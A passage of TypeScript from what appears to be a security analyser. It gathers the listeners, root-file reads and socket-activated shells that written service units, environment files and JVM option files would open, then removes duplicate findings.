            // run once every file is written, so a unit's drop-ins and environment files are known by then.
            ran: (words, how, cwd, fileText, nonRoot) => {
                // Judged on the files as they are when the program starts: viewing.ran then marks what the command
                // itself may change (its working directory, the paths it names) for the commands after it.
                const fromEnvironment = listenerOpenings(
                    environmentListeners(
                        words,
                        [...given, ...unitEnvironment(units), ...flaskDotenvGiven(words, cwd, fileText)],
                        !nonRoot,
                        cwd,
                        fileText,
                        viewing.view,
                    ),
                    how,
                );
                const aspNetEnvironments = unitAspNetEnvironments(
                    words,
                    how,
                    units,
                    given,
                    importsEnvironment,
                    fileText,
                    viewing.view,
                );
                return [...viewing.ran(words, how, cwd, fileText, nonRoot, { aspNetEnvironments }), ...fromEnvironment];
            },
            written(path, content, how, edit) {
                if (content !== undefined && !edit && UNIT_PATH.test(path)) units.push({ path, text: content });
                writtenText.set(path, content !== undefined && !edit ? content : null);
                return [
                    ...viewing.written(path, content, how, edit),
                    ...listenerOpenings(jvmOptionFileListeners(path, content ?? "", viewing.view), how),
                ];
            },
        };
        out.push(...rootReadOpenings(rootTexts, "user data", judge, accounts as NodeAccounts));
        out.push(...viewing.settled());
        out.push(
            ...socketShellOpenings(units, path => writtenText.get(path) ?? undefined, {
                ...NO_VIEW,
                changed: {
                    has: path =>
                        writtenText.get(path) === null || (writtenText.has(path) && viewing.view.changed.has(path)),
                },
            }),
        );
        out.push(...loopbackJoin(out.splice(start)));
    }
    const seen = new Set<string>();
    return out.filter(o => !seen.has(o.what) && !!seen.add(o.what));
}
